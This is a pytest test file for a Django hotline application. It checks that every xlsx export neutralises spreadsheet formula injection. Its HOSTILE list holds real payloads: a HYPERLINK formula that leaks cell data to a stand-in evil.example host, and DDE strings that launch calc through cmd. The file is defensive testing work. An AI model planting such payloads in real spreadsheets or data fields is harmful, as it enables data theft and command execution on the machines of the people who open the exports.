"""Formula injection (issue 15 item 3): text that a spreadsheet would run — beginning with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return — is written as text in every xlsx
export, through the one helper ``common.spreadsheets.escape_formula``.

The hostile author is a clerk of 住建局 (``clerk``): a knowledge entry's title, an
appeal's title typed by a citizen, a unit's name edited in the admin.  The victim is the
leader (``leader``) or the administrator who opens the export in Excel or WPS.
"""

from __future__ import annotations

import io
from datetime import timedelta

import openpyxl
import pytest
import time_machine

from hotline.common.spreadsheets import FORMULA_STARTS, escape_formula, unescape_formula

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(content: bytes) -> list:
    """Every cell of the first sheet, as openpyxl reads it (a formula would come back with
    ``data_type == "f"``)."""
    ws = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in ws.iter_rows() for cell in row]


def assert_all_text(content: bytes, hostile: list[str]) -> None:
    found = cells(content)
    assert not [c.coordinate for c in found if c.data_type == "f"]
    values = {c.value for c in found}
    for text in hostile:
        assert "'" + text in values, text
        assert text not in values


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_helper_escapes_each_dangerous_start_and_nothing_else(start):
    assert escape_formula(start + "1") == "'" + start + "1"
    assert unescape_formula(escape_formula(start + "1")) == start + "1"


def test_the_helper_leaves_safe_values_alone():
    for value in ("老旧小区楼顶漏水", "a=b", "13812345678", 42, -3, 1.5, None, "'quoted"):
        assert escape_formula(value) == value
        assert unescape_formula(value) == value


def test_the_knowledge_export_writes_hostile_titles_as_text_and_reimports_them(web, clerk):
    from hotline.knowledge import actions
    from hotline.knowledge.models import Entry
    from hotline.knowledge.tests.conftest import FUND

    for text in HOSTILE:
        actions.do_create(clerk, {**FUND, "title": text, "keywords": text, "answer": text})
    r = web(clerk).get("/knowledge/export.xlsx")
    assert r.status_code == 200
    content = r.content
    # the entry form strips the tab and carriage return; what is left still starts with =
    assert_all_text(content, [t.strip() for t in HOSTILE])

    # imported back, the entries keep what their authors wrote (no stray apostrophe)
    from django.core.files.uploadedfile import SimpleUploadedFile

    from hotline.knowledge import xlsx

    Entry.objects.update(title="改过的标题")
    result = xlsx.import_entries(clerk, SimpleUploadedFile("知识库.xlsx", content))
    assert result.ok and result.updated == len(HOSTILE), result.errors
    titles = set(Entry.objects.values_list("title", flat=True))
    assert {t.strip() for t in HOSTILE} == titles


@pytest.fixture
def hostile_orders(flow, org, now):
    """Appeals whose titles and addresses a citizen wrote to hurt the exporter."""
    orders = [
        flow.dispatched(title=text.strip() or "x", address=f"{text.strip()}号") for text in HOSTILE
    ]
    # the exports count what happened before "now": read them an hour later
    with time_machine.travel(now + timedelta(hours=1), tick=False):
        yield orders


def test_the_order_export_writes_hostile_text_as_text(as_api, leader, hostile_orders):
    r = as_api(leader).get("/analytics/orders.xlsx")
    assert r.status_code == 200
    assert_all_text(b"".join(r.streaming_content), [t.strip() for t in HOSTILE])


def test_the_drill_down_export_writes_hostile_text_as_text(as_api, leader, org, hostile_orders):
    r = as_api(leader).get(
        "/analytics/assessment/orders.xlsx", metric="received", unit=org.zjj.code
    )
    assert r.status_code == 200
    assert_all_text(b"".join(r.streaming_content), [t.strip() for t in HOSTILE])


def test_the_assessment_export_writes_a_hostile_unit_name_as_text(
    as_api, leader, org, hostile_orders
):
    org.zjj.name = HOSTILE[0]
    org.zjj.save()
    r = as_api(leader).get("/analytics/assessment.xlsx")
    assert r.status_code == 200
    assert_all_text(b"".join(r.streaming_content), [HOSTILE[0]])
